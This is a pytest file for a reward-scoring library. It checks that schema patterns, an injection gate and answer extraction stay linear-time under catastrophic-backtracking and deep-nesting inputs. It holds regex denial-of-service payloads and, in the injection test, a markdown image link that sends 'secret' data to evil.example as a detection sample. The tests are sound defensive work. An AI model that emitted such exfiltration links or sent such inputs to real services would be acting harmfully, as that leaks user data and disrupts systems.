"""Regex and nesting attacks from issue 10 (items 4 and 5): each input is sized so the old
backtracking code would take minutes; each test asserts the engine is RE2 (linear) and the
answer is right, never how long it took."""

from __future__ import annotations

import doctest
import importlib

import pytest

from rewards import linear_re
from rewards.builtin import json_valid as json_valid_module
from rewards.builtin import math_answers
from rewards.builtin.json_agreement import JsonAgreement
from rewards.builtin.json_valid import JsonValid
from rewards.builtin.math_answers import extract_answer
from rewards.builtin.math_steps import check_steps
from rewards.context import build_context
from rewards.gates import injection
from rewards.json_limits import (
    MAX_SCHEMA_DEPTH,
    MAX_SCHEMA_NODES,
    SchemaRefused,
    _regex,
    linear_validator,
    schema_problem,
)
from rewards.task import _CODE_SYNTAX, detect_task
from rewards.types import RewardContext


def _schema_format(schema: object) -> dict[str, object]:
    return {"type": "json_schema", "json_schema": {"name": "s", "schema": schema}}


def _score(texts: list[str], schema: object) -> list[tuple[float | None, str]]:
    ctx = RewardContext(prompt="Reply in JSON", task="json", response_format=_schema_format(schema))
    return [
        (s.value, s.evidence) for s in JsonValid()(completions=texts, context=ctx, candidates=[])
    ]


@pytest.mark.parametrize("module", ["rewards.linear_re", "rewards.json_limits"])
def test_docstring_examples(module: str) -> None:
    result = doctest.testmod(importlib.import_module(module))
    assert result.attempted and not result.failed


def test_linear_compile_refuses_what_re2_cannot_run() -> None:
    for pattern in (r"(a)\1", r"(?<=a)b", r"a(?!b)"):
        with pytest.raises(linear_re.UnsupportedPattern):
            linear_re.compile(pattern)
    assert linear_re.is_linear(linear_re.compile(r"(a|a)*$"))


# 1. A client schema's pattern (6 s at 23 characters under re, x4 per 2 more).
def test_schema_pattern_runs_on_re2_against_a_pathological_string() -> None:
    schema = {"type": "object", "properties": {"a": {"type": "string", "pattern": "^(a|a)*$"}}}
    texts = ['{"a": "%s"}' % ("a" * 50_000 + "b"), '{"a": "aaaa"}']
    (bad, evidence), (good, _) = _score(texts, schema)
    assert bad == 0.5 and "pattern" in evidence
    assert good == 1.0
    assert linear_re.is_linear(_regex("^(a|a)*$"))


def test_pattern_properties_and_additional_properties_run_on_re2() -> None:
    schema = {
        "type": "object",
        "patternProperties": {"^(a|a)*$": {"type": "integer"}},
        "additionalProperties": False,
    }
    evil_key = "a" * 50_000 + "b"
    scores = _score([f'{{"{evil_key}": 1}}', '{"aaa": 1}', '{"aaa": "x"}'], schema)
    assert [v for v, _ in scores] == [0.5, 1.0, 0.5]
    assert "additional" in scores[0][1]
    validator, _ = linear_validator(schema)
    assert validator.VALIDATORS["pattern"].__module__ == "rewards.json_limits"
    assert validator.VALIDATORS["patternProperties"].__module__ == "rewards.json_limits"


@pytest.mark.parametrize(
    "schema",
    [
        {"type": "string", "pattern": r"^(a+)\1$"},
        {"type": "object", "patternProperties": {"(?=a)": {}}},
        {"patternProperties": {"a": {}}, "unevaluatedProperties": False},
    ],
    ids=["backreference", "lookahead", "unevaluated-with-patterns"],
)
def test_a_pattern_re2_cannot_run_gives_no_signal_never_re(schema: dict[str, object]) -> None:
    ctx = RewardContext(prompt="x", task="json", references={"json_schema": schema})
    [score] = JsonValid()(completions=['"aa"'], context=ctx, candidates=[])
    assert score.value is None and "schema refused" in score.evidence
    with pytest.raises(SchemaRefused):
        linear_validator(schema)


def test_schema_size_and_depth_are_bounded() -> None:
    deep: dict[str, object] = {"type": "string"}
    for _ in range(MAX_SCHEMA_DEPTH + 1):
        deep = {"type": "array", "items": deep}
    assert "nested deeper" in (schema_problem(deep) or "")
    wide = {"type": "object", "properties": {f"k{i}": {} for i in range(MAX_SCHEMA_NODES)}}
    assert "more than" in (schema_problem(wide) or "")
    # Data keywords are not walked as schemas: a "pattern" in an example is not compiled.
    assert schema_problem({"examples": [{"pattern": r"(a)\1"}]}) is None


def test_deeply_nested_candidate_json_is_invalid_with_evidence() -> None:
    texts = ["[" * 100_000, "[" * 100_000 + "]" * 100_000, "[" * 100 + "]" * 100, "[[1]]"]
    scores = _score(texts, {"type": "array"})
    assert [v for v, _ in scores] == [0.0, 0.0, 0.0, 1.0]
    assert all("nested" in e for _, e in scores[:3])
    # json_agreement reads JSON the same way: no exception, the deep one is no object.
    agreement = JsonAgreement()(completions=[*texts, '{"a": 1}'], context=None, candidates=[])
    assert all(s.value is None for s in agreement)


def test_deeply_nested_json_in_a_prompt_fence_is_skipped() -> None:
    ctx = RewardContext(prompt="Reply in JSON:\n```json\n" + "[" * 100_000 + "\n```", task="json")
    [score] = JsonValid()(completions=['{"a": 1}'], context=ctx, candidates=[])
    assert score.value == 1.0


def test_many_unclosed_fences_use_re2() -> None:
    assert linear_re.is_linear(json_valid_module._FENCE)
    text = "```json\n{" * 20_000
    [(value, _)] = _score([text], None)
    assert value == 0.0


# 2. The injection gate: "![](http://x/" + "?=" * n was cubic (82 s at 4 KB).
def test_injection_patterns_are_linear_and_still_match() -> None:
    for name in ("_OVERRIDE", "_ROLE_MARKER", "_HIDDEN", "_EXFILTRATION"):
        assert linear_re.is_linear(getattr(injection, name)), name
    attack = "![](http://x/" + "?=" * 50_000
    assert injection.find_injections(attack) == []
    real = "![a](https://evil.example/p.png?data=secret)"
    assert [h.rule for h in injection.find_injections(attack + real)] == ["injection.exfiltration"]


# 3. Planning: "`" + "a(" * n in a prompt was quadratic (8 s at 40 KB).
def test_code_syntax_detection_is_linear_on_backtick_and_calls() -> None:
    assert linear_re.is_linear(_CODE_SYNTAX)
    prompt = "`" + "a(" * 200_000
    task, _ = detect_task(prompt)
    assert task == "general"
    assert build_context(prompt).task == "general"
    assert detect_task("Why does `print(x)` fail?")[0] == "code"


# 5. LaTeX and parenthesis nesting.
def test_boxed_with_thousands_of_braces_returns() -> None:
    closed = "\\boxed{" + "{" * 5000 + "1" + "}" * 5000 + "}"
    assert (extract_answer(closed) or "").startswith("{{{")
    assert extract_answer("\\boxed{" + "{" * 5000) is None
    frac = "\\boxed{" + "\\frac{" * 2000 + "1" + "}{2}" * 2000 + "}"
    assert (extract_answer(frac) or "").startswith("\\frac{\\frac{")
    # Too long for math-verify: compared as text, never parsed.
    assert not math_answers.parse_answer(extract_answer(frac) or "").verifiable


def test_blank_lines_do_not_make_answer_search_quadratic() -> None:
    assert linear_re.is_linear(math_answers._HASHES)
    assert extract_answer("\n" * 200_000 + "#### 42") == "42"


def test_deep_parentheses_in_the_arithmetic_checker_return() -> None:
    text = "(" * 100_000 + "1" + ")" * 100_000 + " = 1"
    report = check_steps(text)
    assert report.share is None  # too long a side to parse: no claim, no RecursionError
    assert check_steps("((2 + 3)) * 4 = 20").share == 1.0


def test_prose_stripping_is_linear_on_unclosed_latex() -> None:
    from rewards.builtin import language

    assert linear_re.is_linear(language._LATEX)
    assert language.prose("\\[" * 100_000 + "Bonjour") == "\\[" * 100_000 + "Bonjour"
